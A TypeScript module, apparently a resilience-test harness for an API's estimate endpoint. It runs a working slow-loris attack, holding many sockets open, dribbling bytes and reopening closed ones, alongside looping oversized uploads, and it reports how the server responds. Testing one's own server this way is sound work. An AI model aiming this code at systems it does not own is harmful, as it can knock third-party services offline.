import { connect, type Socket } from 'node:net';
import { request, type ClientRequest } from 'node:http';

export interface AttackOptions {
  base: string;
  /** Slow-loris sockets held open, each sending one byte per tick. */
  slowSockets: number;
  /** Milliseconds between two bytes on each slow socket. */
  byteIntervalMs: number;
  /** Oversized uploads in flight at once, half with a Content-Length, half chunked without one. */
  oversizedConcurrency: number;
  /** Oversized uploads started per second at most, over all uploaders (each waits out its share). */
  oversizedPerSecond: number;
  oversizedBytes: number;
}

export interface AttackReport {
  /** Slow sockets opened in all (a socket the server closes is replaced). */
  slowOpened: number;
  /** Slow sockets the server closed or reset before the attack ended. */
  slowClosedByServer: number;
  /** Oversized uploads finished, by outcome: an HTTP status, or 'reset' when the server cut the upload short. */
  oversizedOutcomes: Record<string, number>;
}

/** A running attack; `stop` ends it and says what the server did to it. */
export interface Attack { stop(): Promise<AttackReport> }

/**
 * Slow-loris (Hansen, 2009): many sockets each sending a request a byte at a time, to hold a server's
 * connections or buffers; half dribble their headers, half send headers at once and dribble a body.
 * Beside them, oversized uploads (several MB, 64 times the API's 64 KiB body limit) in a loop: with a
 * Content-Length (refusable before reading) and chunked without one (only the bytes read tell).
 */
export function startAttack(options: AttackOptions): Attack {
  const url = new URL(options.base);
  const host = url.hostname;
  const port = Number(url.port);
  let running = true;
  const report: AttackReport = { slowOpened: 0, slowClosedByServer: 0, oversizedOutcomes: {} };
  const count = (outcome: string) => { report.oversizedOutcomes[outcome] = (report.oversizedOutcomes[outcome] ?? 0) + 1; };

  // --- slow loris: one shared timer writes the next byte of every socket.
  const slowBody = JSON.stringify({ model: 'gpt3-175b', cluster: { gpu: 'a100-80gb', nodes: 128 }, training: { globalBatchSize: 1536 } });
  const headers = (i: number) => `POST /v1/estimate HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Type: application/json\r\nContent-Length: ${slowBody.length}\r\nX-Slow: ${i}\r\n\r\n`;
  interface Slow { socket: Socket; text: string; sent: number }
  const slow = new Set<Slow>();
  const open = (i: number) => {
    const text = headers(i) + slowBody;
    const socket = connect({ host, port });
    report.slowOpened += 1;
    // Odd sockets send their headers at once and dribble the body; even ones dribble everything.
    const entry: Slow = { socket, text, sent: i % 2 === 1 ? text.length - slowBody.length : 0 };
    socket.on('connect', () => { if (entry.sent > 0) socket.write(text.slice(0, entry.sent)); });
    socket.on('data', () => { /* an early answer (e.g. a 408) is fine */ });
    socket.on('error', () => { /* counted on close */ });
    socket.on('close', () => {
      slow.delete(entry);
      if (!running) return;
      report.slowClosedByServer += 1;
      open(i); // keep the pressure on
    });
    slow.add(entry);
  };
  for (let i = 0; i < options.slowSockets; i++) open(i);
  const drip = setInterval(() => {
    for (const s of slow) {
      if (s.socket.connecting || s.sent >= s.text.length) continue;
      s.socket.write(s.text[s.sent]!);
      s.sent += 1;
    }
  }, options.byteIntervalMs);

  // --- oversized uploads, in a loop until stopped.
  const chunk = Buffer.alloc(64 * 1024, 0x20); // spaces: a valid start of a JSON text, never a valid end
  const active = new Set<ClientRequest>();
  const upload = (withLength: boolean) => new Promise<void>((resolve) => {
    let settled = false;
    const settle = (outcome: string | undefined) => {
      if (settled) return;
      settled = true;
      active.delete(req);
      // An upload cut short by `stop` is the attack ending, not an outcome of the server's.
      if (outcome !== undefined && running) count(outcome);
      req.destroy();
      resolve();
    };
    const req = request({
      host, port, path: '/v1/estimate', method: 'POST',
      headers: withLength
        ? { 'content-type': 'application/json', 'content-length': options.oversizedBytes, connection: 'close' }
        : { 'content-type': 'application/json', 'transfer-encoding': 'chunked', connection: 'close' },
    }, (res) => {
      res.resume();
      res.on('end', () => settle(String(res.statusCode)));
      res.on('error', () => settle('reset'));
    });
    active.add(req);
    req.on('error', () => settle('reset'));
    req.on('close', () => settle(undefined));
    let written = 0;
    const pump = () => {
      while (written < options.oversizedBytes && !req.destroyed) {
        written += chunk.byteLength;
        if (!req.write(chunk)) return void req.once('drain', pump);
      }
      if (!req.destroyed) req.end();
    };
    pump();
  });
  // Each uploader starts one upload per `concurrency / rate` seconds: a steady attack, not a
  // closed-loop flood whose pace only measures how fast the cores can copy bytes.
  const periodMs = (1000 * options.oversizedConcurrency) / options.oversizedPerSecond;
  // Pauses that `stop` cuts short.
  const sleeping = new Set<() => void>();
  const sleep = (ms: number) => new Promise<void>((resolve) => {
    const wake = () => { clearTimeout(timer); sleeping.delete(wake); resolve(); };
    const timer = setTimeout(wake, ms);
    sleeping.add(wake);
  });
  const uploaders = Array.from({ length: options.oversizedConcurrency }, async (_, i) => {
    while (running) {
      const started = performance.now();
      await upload(i % 2 === 0);
      const wait = periodMs - (performance.now() - started);
      if (wait > 0 && running) await sleep(wait);
    }
  });

  return {
    async stop() {
      running = false;
      clearInterval(drip);
      for (const s of slow) s.socket.destroy();
      for (const r of active) r.destroy();
      for (const wake of [...sleeping]) wake();
      await Promise.all(uploaders);
      return report;
    },
  };
}
